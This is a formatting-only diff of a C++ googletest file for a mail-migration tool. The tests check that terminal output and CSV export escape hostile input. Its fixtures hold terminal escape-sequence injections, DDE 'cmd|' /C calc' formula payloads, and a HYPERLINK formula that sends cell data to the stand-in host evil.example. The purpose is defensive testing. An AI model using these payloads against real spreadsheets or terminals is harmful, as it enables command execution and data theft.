@@ -3,8 +3,8 @@
 #include <SQLiteCpp/Database.h>
 #include <gtest/gtest.h>
 
-#include <boost/filesystem.hpp>
 #include <algorithm>
+#include <boost/filesystem.hpp>
 #include <cstdio>
 #include <cstdlib>
 
@@ -15,7 +15,9 @@ namespace {
 
 // Sets the terminal title, clears the screen, returns to the line start, reverses the text.
 const std::string kHostileName =
-    "Evil\x1B]0;owned\x07\x1B[2J\rFORGED-CR \xE2\x80\xAE" "exe.txt \xC2\x9B" "31m \xFF end";
+    "Evil\x1B]0;owned\x07\x1B[2J\rFORGED-CR \xE2\x80\xAE"
+    "exe.txt \xC2\x9B"
+    "31m \xFF end";
 const std::string kHostileHost = "pop.\x1B[31mevil.example";
 // A folder name may hold a line feed: the forged line must not stand on its own line.
 const std::string kHostileFolder = "mail\nFORGED-LF: 0 errors\x1B[2J";
@@ -153,8 +155,8 @@ TEST_F(OutputInjectionTest, RefusedMergeInputsAreNamedOnceWithTheirNamesEscaped)
     SQLite::Database db(hostile, SQLite::OPEN_READWRITE);
     db.exec("CREATE VIEW \"v\x1B]0;owned\x07\nFORGED\" AS SELECT 1");
   }
-  const RunOutput merge = run_mailmig(
-      {"report", "merge", sandbox_.path("all.db"), hostile, good}, options_);
+  const RunOutput merge =
+      run_mailmig({"report", "merge", sandbox_.path("all.db"), hostile, good}, options_);
   EXPECT_EQ(merge.exit_code, 1);
   EXPECT_EQ(merge.err, "mailmig: " + hostile +
                            ": refused: its view \"v\\x1b]0;owned\\x07\\nFORGED\" is not part of "
@@ -166,11 +168,12 @@ TEST_F(OutputInjectionTest, RefusedMergeInputsAreNamedOnceWithTheirNamesEscaped)
 // Reads `csv_path` with Python's csv module (what a spreadsheet-bound script would use) and
 // prints one cell a line, with a line end inside a cell written as "\\n".
 std::vector<std::string> cells_read_by_python(const std::string& csv_path) {
-  const std::string command = "python3 -c 'import csv,sys\n"
-                              "for row in csv.reader(open(sys.argv[1], newline=\"\", "
-                              "encoding=\"utf-8\")):\n"
-                              "  for cell in row: print(cell.replace(\"\\n\", \"\\\\n\"))' " +
-                              csv_path;
+  const std::string command =
+      "python3 -c 'import csv,sys\n"
+      "for row in csv.reader(open(sys.argv[1], newline=\"\", "
+      "encoding=\"utf-8\")):\n"
+      "  for cell in row: print(cell.replace(\"\\n\", \"\\\\n\"))' " +
+      csv_path;
   std::vector<std::string> cells;
   FILE* pipe = popen(command.c_str(), "r");
   if (pipe == nullptr) return cells;
@@ -183,14 +186,15 @@ std::vector<std::string> cells_read_by_python(const std::string& csv_path) {
 
 TEST_F(OutputInjectionTest, CsvCellsNeverStartLikeAFormula) {
   if (std::system("python3 -c pass") != 0) GTEST_SKIP() << "python3 is not installed";
-  write_file_bytes(folder_ + "/accountrc",
-                   "[Account: 1]\naccount_name=@SUM(1+1)*cmd|' /C calc'!A0\nname=Taro\n"
-                   "address=taro@club.kyutech.ac.jp\nprotocol=0\n"
-                   "receive_server=pop3.club.kyutech.ac.jp\nsmtp_server=smtp.club.kyutech.ac.jp\n"
-                   "user_id=+cmd|' /C calc'!A0\n"
-                   "[Account: 2]\naccount_name=two\nname=Hanako\naddress=-2+3@example.org\nprotocol=0\n"
-                   "receive_server==HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\n"
-                   "smtp_server=smtp.example.org\nuser_id=hanako\n");
+  write_file_bytes(
+      folder_ + "/accountrc",
+      "[Account: 1]\naccount_name=@SUM(1+1)*cmd|' /C calc'!A0\nname=Taro\n"
+      "address=taro@club.kyutech.ac.jp\nprotocol=0\n"
+      "receive_server=pop3.club.kyutech.ac.jp\nsmtp_server=smtp.club.kyutech.ac.jp\n"
+      "user_id=+cmd|' /C calc'!A0\n"
+      "[Account: 2]\naccount_name=two\nname=Hanako\naddress=-2+3@example.org\nprotocol=0\n"
+      "receive_server==HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\n"
+      "smtp_server=smtp.example.org\nuser_id=hanako\n");
   const std::string db = sandbox_.path("report.db");
   const RunOutput plan = run({"plan", "--format", "csv", "--report", db, "--policy",
                               fixture_path("policies/002-kyutech.xml")});
@@ -211,10 +215,11 @@ TEST_F(OutputInjectionTest, CsvCellsNeverStartLikeAFormula) {
         << file;
   }
   const std::vector<std::string> plan_cells = cells_read_by_python(sandbox_.path("plan.csv"));
-  for (const std::string expected :
-       {"'+cmd|' /C calc'!A0", "'-2+3@example.org", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"}) {
+  for (const std::string expected : {"'+cmd|' /C calc'!A0", "'-2+3@example.org",
+                                     "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"}) {
     EXPECT_NE(std::find(plan_cells.begin(), plan_cells.end(), expected), plan_cells.end())
-        << expected << " not in:\n" << testing::PrintToString(plan_cells);
+        << expected << " not in:\n"
+        << testing::PrintToString(plan_cells);
   }
 }
 
